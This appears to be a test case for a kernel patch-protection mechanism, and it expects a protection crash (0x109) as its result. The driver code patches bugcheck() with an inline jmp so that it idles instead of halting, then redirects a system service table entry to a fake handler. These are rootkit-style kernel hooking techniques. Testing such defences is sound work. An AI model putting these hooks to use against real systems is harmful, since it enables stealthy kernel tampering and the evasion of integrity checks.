/* attack_a14 (A14): first make bug checks harmless by hooking the exported
 * bugcheck() (a 5-byte jmp to a routine that idles forever instead of
 * stopping the machine), then patch the service table as A1
 * does. PatchGuard stops through its private pointer, so the crash still
 * happens. Expected: 0x109, type 0xA or 0x1. */
#include "attack.h"

static volatile uint64_t swallowed;

static void quiet_bugcheck(uint32_t code, uint64_t p1, uint64_t p2, uint64_t p3, uint64_t p4)
{
	swallowed++;
	for (;;)
		__asm__ volatile("sti; hlt");
}

static uint64_t hooked_getpid(uint64_t a1, uint64_t a2, uint64_t a3, uint64_t a4, uint64_t a5, uint64_t a6)
{
	return 4242;
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t target = (uint64_t)&bugcheck, hook = (uint64_t)&quiet_bugcheck;
	uint8_t jmp[5] = {0xE9};
	int32_t rel = (int32_t)(hook - (target + 5));
	memcpy(jmp + 1, &rel, 4);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	a_write_protected((void *)target, jmp, sizeof jmp);
	uint64_t *table = a_find_service_table();
	if (!table) {
		printk("attack_a14: service table not found\n");
		a_restore(pf);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t entry = (uint64_t)&hooked_getpid;
	a_write_protected(&table[KPP_SYS_GET_PID], &entry, sizeof entry);
	printk("attack_a14: bugcheck hooked, then service table entry %d redirected\n", KPP_SYS_GET_PID);
	a_patched("attack_a14");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
